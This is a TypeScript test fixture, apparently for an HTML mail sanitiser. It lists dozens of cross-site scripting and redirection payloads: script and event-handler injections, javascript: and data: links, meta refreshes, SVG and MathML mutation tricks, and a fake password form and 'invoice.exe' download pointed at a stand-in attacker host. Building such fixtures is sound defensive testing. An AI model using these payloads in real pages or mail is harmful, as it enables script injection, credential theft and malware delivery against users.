import { attack, lastAttack, loneAttack, encoded, type Attack, quoted, strike } from './attack.fixture.js';
import { attacker } from './canary.fixture.js';

const scripts = [
  attack('a script', `<script>${strike}</script>`),
  attack('a script of another host', `<script src="${attacker}/x.js"></script>`),
  attack('a module script', `<script type="module">${strike}</script>`),
  attack('a script in odd case with a slash', `<ScRiPt/x>${strike}</sCrIpT >`),
  lastAttack('a script that is never closed', `<p>x<script>${strike}`),
  attack('a script in a data address', `<script src="data:text/javascript,${encoded}"></script>`),
  attack('scripts nested in each other', `<scr<script>ipt>${strike}</scr</script>ipt>`),
];

const handlers = [
  attack('an image that fails', `<img src=x onerror="${quoted}">`),
  attack('a handler without quotes and spaces', `<img/src=x/onerror=${strike.replaceAll(' ', '/**/')}>`),
  attack(
    'autofocus',
    `<input autofocus onfocus="${quoted}"><a href="#x" tabindex=1 autofocus onfocus="${quoted}">x</a>`,
  ),
  attack('a handler on the body', `<body onload="${quoted}" onpageshow="${quoted}">`),
  attack(
    'toggle and pointer handlers',
    `<details open ontoggle="${quoted}"><summary>x</summary></details><p onpointerenter="${quoted}" onmouseover="${quoted}">x</p>`,
  ),
  attack(
    'animation handlers',
    `<style>@keyframes k{from{opacity:0}}</style><p style="animation:k 1s" onanimationstart="${quoted}" onanimationend="${quoted}">x</p>`,
  ),
  attack(
    'marquee and media handlers',
    `<marquee onstart="${quoted}">x</marquee><video><source onerror="${quoted}"></video><audio src=x onerror="${quoted}"></audio>`,
  ),
];

const addresses = [
  attack(
    'a javascript: link',
    `<a href="javascript:${quoted}">x</a><a href=" java&#9;script&colon;${quoted}">y</a><a href="JaVaScRiPt:${quoted}">z</a>`,
  ),
  attack(
    'a data: link',
    `<a href="data:text/html,${encodeURIComponent(`<script>${strike}</script>`)}">x</a>`,
  ),
  attack('a vbscript: link', `<a href="vbscript:msgbox(1)">x</a>`),
  attack(
    'an area of a map',
    `<img usemap="#m" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" width="90" height="90"><map name="m"><area shape="rect" coords="0,0,90,90" href="javascript:${quoted}" alt="x"></map>`,
  ),
  attack(
    'an access key and an order of tabs',
    `<a accesskey="a" tabindex="1" href="${attacker}/key">x</a><button accesskey="e" autofocus onclick="${quoted}">y</button>`,
  ),
  attack(
    'a redirect',
    `<meta http-equiv="refresh" content="0;url=${attacker}/refresh"><meta http-equiv="refresh" content="0;url=javascript:${quoted}">`,
  ),
  attack(
    'a base address and a base target',
    `<base href="${attacker}/" target="_top"><a href="x">x</a><img src="x.gif">`,
  ),
  attack(
    'a download',
    `<a href="${attacker}/invoice.exe" download="invoice.exe">x</a><iframe src="${attacker}/invoice.exe"></iframe>`,
  ),
];

const embedded = [
  attack(
    'a frame',
    `<iframe src="${attacker}/frame"></iframe><iframe srcdoc="<script>${quoted}</script>"></iframe>`,
  ),
  attack(
    'an object and an embed',
    `<object data="${attacker}/o.swf"></object><embed src="${attacker}/e.swf"><applet code="${attacker}/a.class"></applet>`,
  ),
  attack(
    'a frameset and a portal',
    `<frameset><frame src="${attacker}/f"></frameset><portal src="${attacker}/p"></portal>`,
  ),
  attack(
    'a form that posts',
    `<form action="${attacker}/form" method="post"><input name="password" type="password" autofocus><button>Sign in again</button></form>`,
  ),
  attack(
    'a button with an action of its own',
    `<form id="f"></form><button form="f" formaction="${attacker}/formaction">x</button><input type="image" src="${attacker}/i.gif" formaction="javascript:${quoted}">`,
  ),
  attack(
    'a button that submits by itself',
    `<form action="${attacker}/search" method="get"><input name="q" value="x" autofocus onfocus="this.form.submit()"><input type="submit" value="Unsubscribe"></form>`,
  ),
  attack(
    'a document in a document',
    `<iframe srcdoc="&lt;img src=${attacker}/inner.png&gt;&lt;meta http-equiv=refresh content='0;url=${attacker}/inner'&gt;"></iframe>`,
  ),
  loneAttack(
    'a dialog and a popover',
    `<dialog open style="position:fixed;inset:0">x</dialog><div popover="manual" id="p">x</div><button popovertarget="p">x</button>`,
  ),
];

const drawings = [
  attack('a script in a drawing', `<svg><script>${strike}</script></svg><svg onload="${quoted}"></svg>`),
  attack(
    'a drawing that animates a link',
    `<svg><a><animate attributeName="href" values="javascript:${quoted}" begin="0s"/><text y="20">x</text></a><set attributeName="onmouseover" to="${quoted}"/></svg>`,
  ),
  attack(
    'a drawing that uses another',
    `<svg><use href="data:image/svg+xml,${encodeURIComponent(`<svg id="x" xmlns="http://www.w3.org/2000/svg"><script>${strike}</script></svg>`)}#x"/><image href="${attacker}/svg.png"/><foreignObject><iframe src="${attacker}/fo"></iframe></foreignObject></svg>`,
  ),
  attack(
    'a link in a drawing',
    `<svg><a href="${attacker}/svg" xlink:href="${attacker}/xlink"><text y="20">x</text></a></svg><math href="${attacker}/math"><mi>x</mi></math>`,
  ),
  attack(
    'formulas',
    `<math><maction actiontype="statusline" xlink:href="javascript:${quoted}">x</maction><mtext><style><img src=x onerror="${quoted}"></style></mtext></math>`,
  ),
];

const mutations = [
  lastAttack('noscript', `<noscript><p title="</noscript><img src=x onerror='${strike}'>"></noscript>`),
  attack(
    'a template and a shadow',
    `<template><script>${strike}</script></template><div><template shadowrootmode="open"><img src=x onerror="${quoted}"></template></div>`,
  ),
  attack(
    'a link in a shadow',
    `<div><template shadowrootmode="open"><a href="${attacker}/shadow">x</a></template></div>`,
  ),
  lastAttack(
    'a link that only a second reading finds',
    `<form><math><mtext></form><form><mglyph><style></math><a href="${attacker}/mutated">x</a><img src=x onerror="${quoted}">`,
  ),
  lastAttack('a style in a drawing', `<svg></p><style><a id="</style><img src=1 onerror='${strike}'>">`),
  lastAttack(
    'formulas in tables',
    `<math><mi><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=&quot;${quoted}&quot;&gt;"></table></mi></math>`,
  ),
  lastAttack(
    'comments that end oddly',
    `<!--><img src=x onerror="${quoted}">--><!-- --!><img src=x onerror="${quoted}"><![CDATA[><script>${strike}</script>]]>`,
  ),
  lastAttack(
    'nested tables and forms',
    `<table><tr><td><form><table></form><form action="${attacker}/nested"><input></table><a><table><a onmouseover="${quoted}">x</table>`,
  ),
  lastAttack(
    'text that swallows',
    `<xmp><img src=x onerror="${quoted}"></xmp><title><img src=x onerror="${quoted}"></title><textarea><img src=x onerror="${quoted}"></textarea><plaintext><img src=x onerror="${quoted}">`,
  ),
  lastAttack(
    'broken tags',
    `<img """><script>${strike}</script>"><<img src=x onerror=alert(1)//<p/onclick=alert(1)><a/href="javascript:${quoted}"/x`,
  ),
];

/** Mail that wants to run something, or to lead somewhere. */
export const attacksThatAct: readonly Attack[] = [
  ...scripts,
  ...handlers,
  ...addresses,
  ...embedded,
  ...drawings,
  ...mutations,
];
